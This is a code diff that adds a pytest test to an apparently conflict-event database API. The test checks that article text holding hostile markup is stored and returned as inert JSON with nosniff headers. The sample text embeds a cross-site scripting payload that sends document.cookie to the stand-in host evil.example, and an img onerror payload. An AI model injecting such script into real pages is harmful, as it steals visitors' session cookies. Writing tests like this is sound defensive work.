@@ -491,3 +491,27 @@ def test_actor_on_both_sides_is_listed_once(client, store):
     assert page["total"] == 2 and page["total_exact"] is True
     assert [e["event_date"] for e in _page(client, "/api/events", actor="Free Syrian Army", limit=1,
                                             offset=1)["items"]] == ["2014-01-06"]
+
+
+def test_ingest_hostile_text_with_the_real_coder(store, coder):
+    """POST /api/ingest with the shipped coder: the article and its events come back as JSON
+    data, the payloads byte for byte, with headers that stop a browser from running them."""
+    text = ("Government aircraft dropped barrel bombs on the town of Azaz in Aleppo province on "
+            "Sunday, killing 12 people, <script>document.location='http://evil.example/'+document.cookie"
+            "</script> a monitoring group said. <img src=x onerror=alert(1)> Rebels shelled an army "
+            "checkpoint near Idlib on Monday.")
+    app = create_app(store, coder_factory=lambda: coder, token=TOKEN, resolver=_refuse_all)
+    with TestClient(app) as c:
+        made = c.post("/api/ingest", json={"text": text, "published": "2014-01-07"}, headers=AUTH)
+        assert made.status_code == 201, made.text
+        result = made.json()
+        assert result["ingested"] == 1 and result["events"] == len(result["event_ids"]) >= 1
+        article = c.get(f"/api/articles/{result['article_id']}")
+        assert article.headers["content-type"] == "application/json"
+        assert article.headers["x-content-type-options"] == "nosniff"
+        assert article.json()["text"] == text
+        assert {e["event_id"] for e in article.json()["events"]} == set(result["event_ids"])
+        event = c.get(f"/api/events/{result['event_ids'][0]}").json()
+        for span in event["evidence"]:
+            assert text[span["start"]:span["end"]] == span["text"]
+        assert c.get("/api/articles", params={"q": "onerror"}).json()["items"][0]["id"] == result["article_id"]
